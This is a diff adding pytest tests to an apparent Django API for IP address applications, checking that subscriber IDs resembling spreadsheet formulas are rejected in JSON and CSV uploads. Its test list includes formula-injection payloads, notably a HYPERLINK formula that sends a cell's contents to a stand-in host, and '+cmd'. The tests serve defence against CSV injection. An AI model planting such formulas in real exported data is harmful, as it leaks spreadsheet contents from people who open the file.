@@ -138,6 +138,44 @@ def test_a_json_parse_error_still_says_where(world):
     assert response.json()["detail"].startswith("JSON parse error")
 
 
+# --- spreadsheet formulas -------------------------------------------------------------------------
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"bill")', "@SUM(1+1)", "+cmd", "-x", "+", "-", "+ 92"]
+NOT_FORMULAS = ["+923001234567", "-12", "SUB=1", "A+B", "1@2"]
+
+
+@pytest.mark.parametrize("subscriber_id", FORMULAS)
+def test_a_subscriber_id_a_spreadsheet_would_run_is_refused_naming_the_field(world, subscriber_id):
+    body = json.dumps({"resources": [{"value": "14.1.104.0/24", "subscriber_id": subscriber_id}]})
+    response = world.client(world.applicant).post(
+        "/api/v1/applications/", data=body, content_type="application/json"
+    )
+    assert response.status_code == 400
+    errors = response.json()["resources"][0]
+    assert set(errors) == {"subscriber_id"}
+    assert "formula" in errors["subscriber_id"][0]
+    assert not Application.objects.exists()
+
+
+def test_a_formula_in_an_uploaded_csv_names_the_line_and_the_field(world):
+    text = "value,subscriber_id\n14.1.104.0/24,SUB-1\n14.1.105.0/24,=1+1\n"
+    response = world.client(world.applicant).post(
+        "/api/v1/applications/csv/", data=text, content_type="text/csv"
+    )
+    assert response.status_code == 400
+    assert response.json()["csv"][0].startswith("line 3: subscriber_id: ")
+
+
+@pytest.mark.parametrize("subscriber_id", NOT_FORMULAS)
+def test_subscriber_ids_that_merely_hold_a_sign_are_taken(world, subscriber_id):
+    body = json.dumps({"resources": [{"value": "14.1.104.0/24", "subscriber_id": subscriber_id}]})
+    response = world.client(world.applicant).post(
+        "/api/v1/applications/", data=body, content_type="application/json"
+    )
+    assert response.status_code == 201, response.content
+
+
 # --- answers that did not match the schema ---------------------------------------------------------
 
 
